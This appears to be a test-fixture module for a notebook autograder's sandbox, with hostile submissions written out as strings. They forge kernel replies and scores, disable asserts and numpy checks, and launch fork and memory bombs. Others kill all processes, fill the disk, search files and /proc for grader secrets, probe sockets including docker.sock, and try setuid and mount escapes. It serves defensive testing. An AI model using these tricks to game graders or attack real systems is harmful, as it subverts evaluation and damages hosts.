"""What hostile submissions do: how they cheat, what they answer, how they harm, and where they look and write."""

# What pretends to be solved, with nothing solved, must get nothing.
LIE = """
kernel = get_ipython().kernel
send = kernel.session.send
def lie(stream, kind, content=None, *args, **more):
    if kind == "execute_reply":
        content = {content}
    return send(stream, kind, content, *args, **more)
kernel.session.send = lie
"""
ANSWER = '{{"status": "ok", "user_expressions": {{"answer": {{"status": "ok", "data": {{"text/plain": {text}}}}}}}}}'
PACKED = "\"'V\" + __import__('base64').b64encode({json}.encode()).decode() + \"'\""


def lie(json):
    return LIE.format(content=ANSWER.format(text=PACKED.format(json=json)))


CHEATS = {
    "input transformer": "get_ipython().input_transformers_post.append(lambda lines: [])",
    "no asserts": "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
    "get_ipython().ast_transformers.append(Drop())",
    "np.testing": "import numpy as np\nnp.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None",
    "np.allclose": "import numpy as np\nnp.allclose = np.array_equal = np.isclose = np.all = lambda *a, **k: True\n"
    "np.max = np.abs = np.isfinite = lambda *a, **k: 0.0",
    "builtins": "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
    "builtins.abs = builtins.max = builtins.len = lambda *a, **k: 0",
    "utils.homework": "import sys, types, utils.homework\nfake = types.ModuleType('utils.homework.checks')\n"
    "fake.__getattr__ = lambda name: (lambda *a, **k: True)\n"
    "sys.modules['utils.homework.checks'] = utils.homework.checks = fake",
    "forged score": 'score = points = grade = total = 6\nprint(\'{"points": 6, "said": "right"}\')\n'
    "from IPython.display import publish_display_data\n"
    "publish_display_data({'application/json': {'checks': [{'id': 'centre', 'points': 6, 'said': 'right'}]}})",
    "forged answer": "__answer__ = 'V' + 'bnVsbA=='\n__grading__ = True",
    "lie: empty reply": LIE.format(content="{}"),
    "lie: status only": LIE.format(content='{"status": "ok"}'),
    "lie: wrong types": LIE.format(content='{"status": ["ok"], "user_expressions": 7, "ename": {}, "evalue": [[]]}'),
    "lie: right": lie("'\"right\"'"),
    "lie: true": lie("'true'"),
    "lie: a list": lie("'[1, 2]'"),
    "lie: deep": lie("('{\"l\":[' * 3000 + ']}' * 3000)"),
    "lie: enormous shape": lie('\'{"a": ["<f8", [1000000000, 1000000000], ""]}\''),
    "lie: object array": lie('\'{"a": ["O", [1], "AAAAAAAAAAA="]}\''),
    "lie: code": lie('\'{"code": ["open(\\"CANARY\\", \\"w\\")\\\\nx = 1", "x"]}\''),
    "lie: long number": lie("('9' * 100000)"),
    "lie: nan": lie('\'{"a": ["<f8", [], "AAAAAAAA+H8="]}\''),
    "nothing sent": "get_ipython().kernel.session.send = lambda *a, **k: None",
    "replays": "k = get_ipython().kernel\nold = k.session.send\n"
    "def twice(*a, **m):\n    for _ in range(50): r = old(*a, **m)\n    return r\nk.session.send = twice",
}

EVIL = """
import numpy as np
class Evil:
    def __eq__(self, other): return True
    def __array__(self, *args, **more): raise SystemExit
    def __reduce__(self): return (open, ("CANARY", "w"))
    def __float__(self): return 0.0
    def __repr__(self): return "'VbnVsbA=='"
"""
SUBCLASS = """
import numpy as np
class Same(np.ndarray):
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(1)
    __rsub__ = __sub__
    def __array_ufunc__(self, *args, **more): return np.True_
    def astype(self, *args, **more): return self
    shape = property(lambda self: (5, 3))
"""
# What an answer to centre() may be; the rest of the notebook is right, so that just centre's 2 points are lost.
ANSWERS = {
    "evil object": (EVIL, "return Evil()"),
    "array of evil objects": (EVIL, "return np.array([Evil()], dtype=object)"),
    "subclass": (SUBCLASS, "return np.zeros((1, 1)).view(Same)"),
    "str subclass": (
        "class S(str):\n    def __eq__(self, o): return True\n    __hash__ = str.__hash__",
        "return S('x')",
    ),
    "own list": ("own = []\nown.append(own)", "return own"),
    "a generator": ("", "yield X"),
    "a NaN": ("", "return X * np.nan"),
    "16 MB": ("", "return np.zeros(2_000_000)"),
    "8 GB": ("", "return np.ones(10**9)"),
    "endless": ("", "while True: pass"),
    "endless, swallows": (
        "",
        "while True:\n        try:\n            while True: pass\n        except BaseException: 0",
    ),
    "exits": ("", "import os; os._exit(0)"),
    "raises an evil error": ("class E(Exception):\n    def __str__(self): raise SystemExit", "raise E"),
    "raises NotImplementedError": ("", "raise NotImplementedError('<script>alert(1)</script>')"),
    "raises KeyboardInterrupt": ("", "raise KeyboardInterrupt"),
    "raises SystemExit": ("", "raise SystemExit"),
    "stops itself": ("", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
}

ENDLESS_MESSAGE = """
kernel = get_ipython().kernel
send = kernel.session.send
big = b"x" * (3 * 2**20)
def flood(stream, kind, content=None, *args, **more):
    if kind == "execute_reply":
        ident = more.get("ident") or args[1]
        frames = [*(ident if isinstance(ident, list) else [ident]), *[big] * 2000]
        getattr(stream, "socket", stream).send_multipart(frames, copy=False)
    return send(stream, kind, content, *args, **more)
kernel.session.send = flood
"""
BOMBS = {
    "a message without end": ENDLESS_MESSAGE,
    "endless loop": "while True: pass",
    "swallows interrupts": "while True:\n    try:\n        while True: pass\n    except KeyboardInterrupt: pass",
    "ignores the signal": "import time, signal as s\ns.signal(s.SIGINT, s.SIG_IGN)\nwhile True: time.sleep(1)",
    "os._exit": "import os; os._exit(0)",
    "kills everything": "import os\nos.kill(-1, 9)",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "memory bomb": "hog = []\nwhile True: hog.append(b'x' * 2**24)",
    "memory bomb in children": "import os\nfor _ in range(5):\n    if os.fork() == 0:\n        hog = []\n"
    "        while True: hog.append(b'x' * 2**23)\nimport time\nwhile True: time.sleep(1)",
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "threads": "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(99,)).start()",
    "prints 100 MB": "import time\nfor _ in range(100): print('x' * 2**20, flush=True)\ntime.sleep(2)",
    "displays 100 MB": "import time\nfrom IPython.display import display\n"
    "for _ in range(100): display({'a': 'x' * 2**20}, raw=True)\ntime.sleep(2)",
    "prints 100 MB at once": "print('x' * 100 * 2**20)",
    "writes 100 MB to fd 1 and 2": "import os\nfor i in range(200): os.write(1 + i % 2, b'x' * 2**20)",
    "prints for ever in a thread": "import threading\n"
    "def run():\n    while True: print('x' * 1000)\nthreading.Thread(target=run, daemon=True).start()",
    "waits for input": "input('Your password? ')",
    "leaves a child": "import subprocess\nsubprocess.Popen(['sleep', '4711'], start_new_session=True)",
}

# Each of these says at its end that it has tried everything.
FILL_DISK = """
def fill(folder):
    n = 0
    try:
        while n < 500:
            with open(f"{folder}/fill{n}", "wb") as file:
                file.write(b"x" * 2**20)
            n += 1
    except OSError: pass
    return n
print("FILLED", [fill(folder) for folder in ("/tmp", "/dev/shm", "/dev", "/run/exchange", "/run", "/", "/var/tmp")])
print('TRIED ALL')"""
CONNECTION = """
import os, glob
for act in (os.remove, lambda p: open(p, "w").write("{}"), lambda p: os.rename(p, p + "x"), lambda p: os.chmod(p, 0)):
    for path in glob.glob("/run/exchange/*"):
        try:
            act(path)
            print("DID", path)
        except OSError: pass
print('TRIED ALL')"""
WRITE = """
import os
for folder in FOLDERS:
    for path in (f"{folder}/CANARY", f"/proc/1/root{folder}/CANARY", f"/proc/1/cwd/../../..{folder}/CANARY"):
        try:
            open(path, "w").close()
            print("WROTE", path)
        except OSError: pass
print('TRIED ALL')"""
CONNECT = """
import socket
for address in (("127.0.0.1", PORT), ("HOST", PORT), ("8.8.8.8", 53)):
    try:
        socket.create_connection(address, timeout=0.5).send(b"here")
        print("CONNECTED", address)
    except OSError: pass
for path in ("\\0canary-PORT", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(path)
        print("CONNECTED", path)
    except OSError: pass
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("CONNECTED raw")
except OSError: pass
print('TRIED ALL')"""
READ = """
import glob, os
MARKS = [b"SOLUTION" + b"-MARK-4711", b"SECRET" + b"-OF-THE-GRADER"]
def look(path):
    try:
        with open(path, "rb") as file:
            data = file.read(2**20)
        if any(mark in data for mark in MARKS): print("FOUND", path)
    except (OSError, ValueError): pass
places = PLACES + [os.path.expanduser("~"), "/root", "/home", "/tmp", "/run", "/etc", "/var",
                   "/proc/1/root" + PLACES[0], "/proc/self/cwd", "/dev/shm", os.getcwd()]
for place in places:
    for folder, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f not in (".venv", "versions", "site-packages", "data", ".git")][:200]
        for name in files[:2000]:
            look(os.path.join(folder, name))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline", "mountinfo", "maps"):
            look(f"/proc/{pid}/{name}")
        for fd in glob.glob(f"/proc/{pid}/fd/*"):
            try: target = os.readlink(fd)
            except OSError: continue
            if os.path.isfile(target): look(fd)
if any(mark in repr(os.environ).encode() for mark in MARKS): print("FOUND environment")
for fd in range(3, 200):
    try:
        data = os.pread(fd, 2**20, 0)
        if any(mark in data for mark in MARKS): print("FOUND fd", fd)
    except OSError: pass
print("SEES", [p for p in PLACES if os.path.exists(p)])
print("PROCESSES", sum(p.isdigit() for p in os.listdir("/proc")))
print('TRIED ALL')"""
ESCAPE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, call in {
    "setuid": lambda: libc.setuid(0),
    "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
    "chroot": lambda: libc.chroot(b"/tmp"),
    "remount": lambda: libc.mount(None, b"/", None, 32, None),
    "mknod": lambda: libc.mknod(b"/tmp/disk", 0o60666, 0xFE00),
    "sethostname": lambda: libc.sethostname(b"x", 1),
    "limits": lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_FSIZE, (2**40, 2**40)) or 0,
}.items():
    try: worked = call() == 0
    except (OSError, ValueError): worked = False
    print("WORKED" if worked else "refused", name)
print('TRIED ALL')"""
